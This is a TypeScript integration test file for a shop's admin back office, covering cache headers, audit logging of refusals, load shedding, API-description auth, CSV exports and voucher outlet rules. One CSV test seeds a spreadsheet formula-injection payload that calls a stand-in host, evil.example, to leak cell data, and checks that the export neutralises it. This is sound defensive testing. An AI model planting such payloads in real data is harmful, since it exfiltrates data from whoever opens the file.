import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, evouchers, members, outlets, products, staffOutlets } from '../../../src/server/db/schema/index.ts';
import { createTestApp, type TestApp } from '../../support/test-app.ts';
import { aMember, aProduct } from '../../support/factories.ts';
import { aCounter, aVoucherAtCounter } from './redemption-scene.ts';
import { ADMIN, aStaff, adminRequest } from './admin-support.ts';

/** The back office's answers and lane (decision 0237): never cached, refusals traced, a bounded lane of its own. */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ env: { ADMIN_MAX_IN_FLIGHT: '1', ADMIN_MAX_QUEUE: '0' } });
});
afterAll(async () => t.close());

describe('admin answers', () => {
  it('carry Cache-Control: no-store, refusals and errors included', async () => {
    const support = await (await aStaff(t, 'support')).client();
    const ok = await support.req('GET', '/orders');
    expect(ok.headers.get('cache-control')).toBe('no-store');
    const refused = await support.req('GET', '/staff');
    expect(refused.status).toBe(403);
    expect(refused.headers.get('cache-control')).toBe('no-store');
    const signedOut = await adminRequest(t, 'GET', '/orders');
    expect(signedOut.headers.get('cache-control')).toBe('no-store');
  });

  it('write what a signed-in staff member was refused to the audit log, with the address and user agent', async () => {
    const s = await aStaff(t, 'marketing');
    const client = await s.client();
    const res = await client.req('GET', '/staff', undefined, { 'x-forwarded-for': '10.91.0.7', 'user-agent': 'curious/1' });
    expect(res.status).toBe(403);
    const [entry] = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.staff_id, s.id), eq(auditLog.action, 'refused')));
    expect(entry).toMatchObject({ resource: 'staff', ip: '10.91.0.7', user_agent: 'curious/1' });
    expect(entry.after).toMatchObject({ method: 'GET', status: 403, reason: 'outside_role' });
  });
});

describe('the back office lane', () => {
  it('is bounded apart from the shop: a burst of staff reads is shed, a shopper’s read still answers', async () => {
    const finance = await (await aStaff(t, 'finance')).client();
    const [reads, shop] = await Promise.all([
      Promise.all(Array.from({ length: 6 }, () => finance.req('GET', '/trial-balance'))),
      t.call('catalogue', 'list_product', { limit: 5 }, { token: await t.guestToken() }),
    ]);
    expect(reads.filter((r) => r.status === 200).length).toBeGreaterThanOrEqual(1);
    const shed = reads.filter((r) => r.status === 503);
    expect(shed.length).toBeGreaterThanOrEqual(1);
    for (const r of shed) expect(r.body.reason).toBe('busy');
    expect(shop.status).toBe(200);
  });
});

describe('the admin API description', () => {
  it('is for signed-in staff only on a public https deployment', async () => {
    const publicShop = await createTestApp({ env: { PUBLIC_BASE_URL: 'https://shop.example.com', ALLOW_SANDBOX_PAYMENTS: '1' } });
    try {
      for (const path of ['/openapi.json', '/reference']) {
        const res = await publicShop.app.request(`${ADMIN}${path}`);
        expect(res.status, path).toBe(401);
      }
    } finally {
      await publicShop.close();
    }
    expect((await t.app.request(`${ADMIN}/openapi.json`)).status).toBe(200);
  });
});

describe('CSV exports', () => {
  const csvOf = async (cookie: string, path: string) => {
    const res = await t.app.request(`${ADMIN}${path}`, { headers: { cookie } });
    return { status: res.status, type: res.headers.get('content-type') ?? '', text: await res.text() };
  };

  it('neutralise cells a spreadsheet would run as formulas', async () => {
    const name = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const m = await aMember(t, { name });
    const support = await (await aStaff(t, 'support')).client();
    const [row] = await t.db.select({ phone: members.phone_e164 }).from(members).where(eq(members.id, m.id));
    const csv = await csvOf(
      support.cookie,
      `/members/export.csv?filter=${encodeURIComponent(JSON.stringify({ q: (row.phone ?? '').slice(-8) }))}`,
    );
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"`);
    for (const line of csv.text.trim().split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('hold every row, past a thousand, never a silently short file', async () => {
    await t.db.execute(
      sql`insert into audit_log (staff_email, action, resource, object_id, at) select 'bulk@staff.test', 'bulk_export_test', 'banners', g::text, now() from generate_series(1, 1214) g`,
    );
    const admin = await (await aStaff(t, 'admin')).client();
    const csv = await csvOf(
      admin.cookie,
      `/audit-log/export.csv?filter=${encodeURIComponent(JSON.stringify({ action: 'bulk_export_test' }))}`,
    );
    expect(csv.status).toBe(200);
    expect(csv.text.trim().split('\r\n')).toHaveLength(1215);
    const support = await (await aStaff(t, 'support')).client();
    expect((await csvOf(support.cookie, '/audit-log/export.csv')).status).toBe(403);
  });
});

describe('outlets', () => {
  it('a voucher is redeemed only at its own outlets: a Singapore voucher is refused at the brand’s Malaysian outlet', async () => {
    const scene = await aVoucherAtCounter(t, { price: 1500 });
    const malaysian = await aProduct(t, { countryId: 1, currency: 'MYR', price: 1500 });
    await t.db.update(products).set({ brand_id: scene.brandId }).where(eq(products.id, malaysian));
    const [abroad] = await t.db.select().from(outlets).where(eq(outlets.product_id, malaysian));
    const counter = await aCounter(t, scene.brandId);
    const refused = await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: abroad.id });
    expect(refused.status).toBe(409);
    expect(refused.body.reason).toBe('voucher_other_outlet');
    const [voucher] = await t.db.select().from(evouchers).where(eq(evouchers.id, scene.voucherId));
    expect(voucher.status).toBe('Active');
    expect((await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: scene.outletId })).status).toBe(201);
  });

  it('is not deleted while a merchant is tied to it or once vouchers were redeemed there (409, not 500)', async () => {
    const scene = await aVoucherAtCounter(t);
    const catalogue = await (await aStaff(t, 'catalogue')).client();
    const tied = await aStaff(t, 'merchant', { brandId: scene.brandId });
    await t.db.insert(staffOutlets).values({ staff_id: tied.id, outlet_id: scene.outletId });
    const refused = await catalogue.req('DELETE', `/outlets/${scene.outletId}`);
    expect(refused.status).toBe(409);
    expect(refused.body.reason).toBe('outlet_in_use');
    await t.db.delete(staffOutlets).where(eq(staffOutlets.staff_id, tied.id));
    const counter = await aCounter(t, scene.brandId);
    expect((await counter.req('POST', '/redemptions', { code: scene.code, outlet_id: scene.outletId })).status).toBe(201);
    const used = await catalogue.req('DELETE', `/outlets/${scene.outletId}`);
    expect(used.status).toBe(409);
    expect(used.body.reason).toBe('outlet_in_use');
    const spare = await aProduct(t);
    const [free] = await t.db.select().from(outlets).where(eq(outlets.product_id, spare));
    expect((await catalogue.req('DELETE', `/outlets/${free.id}`)).status).toBe(200);
  });
});
